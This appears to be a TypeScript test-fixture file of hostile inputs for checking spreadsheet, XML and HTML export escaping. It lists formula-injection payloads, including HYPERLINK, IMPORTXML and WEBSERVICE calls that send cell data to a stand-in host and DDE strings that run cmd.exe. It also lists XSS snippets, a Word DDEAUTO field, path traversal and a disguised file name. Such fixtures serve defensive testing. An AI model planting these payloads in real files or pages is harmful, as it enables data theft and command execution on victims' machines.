/** Starts of texts that one spreadsheet or another takes for a formula. */
const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '﹦',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u3000＝',
  '\u00a0@',
];
const HIDDEN = [
  '\u200b=',
  '\ufeff=',
  '\u2060+',
  '\u00ad-',
  '\u202e@',
  '\u0000=',
  '\u000b=',
  '\u2066=',
  '\u061c=',
];

/** Texts that would be run as formulas: calls, commands, links, behind signs that are dropped or not seen. */
export const FORMULAS: readonly string[] = [
  ...[...STARTS, ...HIDDEN].map((start) => `${start}HYPERLINK("http://x.example/?"&A1,"看")`),
  "=cmd|'/C calc'!A0",
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '-2+3+cmd|"/C calc"!A0',
  '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
  '=WEBSERVICE("http://x.example")',
  '\ttab',
  '\rreturn',
  '\nline',
  '"=1+1"',
  '=1+1\r\n=2+2',
  '=1,=2\t=3;=4',
];

/** Texts with what XML, HTML or a zip could stumble over. */
export const MARKUP: readonly string[] = [
  '<script>window.__xss=1</script>',
  '"><img src=x onerror="window.__xss=1">',
  "'><svg onload='window.__xss=1'>",
  ']]><!--<![CDATA[',
  '</script><!-- <script>\u2028\u2029',
  '&lt;b&gt; &#0; &#x0; &amp;amp;',
  '\u000b\u000c\u0001控\u0000制\ufffe\uffff',
  '半\ud83d个\ude00字',
  '_x003C_script_x003E_',
  '</w:t></w:r><w:r><w:fldSimple w:instr="DDEAUTO c:\\\\x"/>',
  '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
  '../../../../etc/passwd',
  '..\\..\\x.exe\u202ecod.exe',
  'CON',
];
